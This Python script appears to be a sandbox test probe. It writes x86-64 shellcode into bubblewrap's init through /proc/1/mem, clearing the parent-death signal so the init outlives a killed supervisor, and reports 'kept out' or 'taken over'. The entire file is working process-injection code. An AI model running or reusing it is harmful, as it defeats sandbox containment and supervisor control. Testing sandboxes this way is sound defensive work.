"""Takes over bubblewrap's init by writing code into its memory.

In user mode the init has the program's own user id. The code asks the kernel to forget that the
init should die with its parent, and then only waits: it would outlive a killed referee. It leaves
the answer to its request in a register, where ``/proc/1/syscall`` shows it as an argument.
"""

import os
import struct
import time
from pathlib import Path


def code() -> bytes:
    """prctl(PR_SET_PDEATHSIG, 0); then nanosleep-free waiting: pause() for ever (x86-64)."""
    forget = b"\xb8\x9d\0\0\0\xbf\x01\0\0\0\x31\xf6\x0f\x05"
    # mov rdi, rax; then again and again: mov eax, 34 (pause); syscall
    wait = b"\x48\x89\xc7" + b"\xb8\x22\0\0\0\x0f\x05\xeb\xf7"
    return forget + wait


def main() -> None:
    """Write the code where the init will come back from its waiting, and make it come back."""
    try:
        memory = os.open("/proc/1/mem", os.O_RDWR)
        counter = int(Path("/proc/1/syscall").read_text().split()[-1], 16)
        os.pwrite(memory, code(), counter)
    except OSError as error:
        print("kept out:", error.strerror, flush=True)
        time.sleep(1000)
    # An orphan that ends wakes the init.
    if not os.fork():
        if not os.fork():
            time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    os.wait()
    for _ in range(400):
        called = Path("/proc/1/syscall").read_text().split()
        if called[0] == "34":
            (answer,) = struct.unpack("<q", struct.pack("<Q", int(called[1], 16)))
            print("taken over:", answer, flush=True)
            break
        time.sleep(0.005)
    time.sleep(1000)


if os.uname().machine != "x86_64":
    print("kept out: another architecture", flush=True)
    time.sleep(1000)
main()
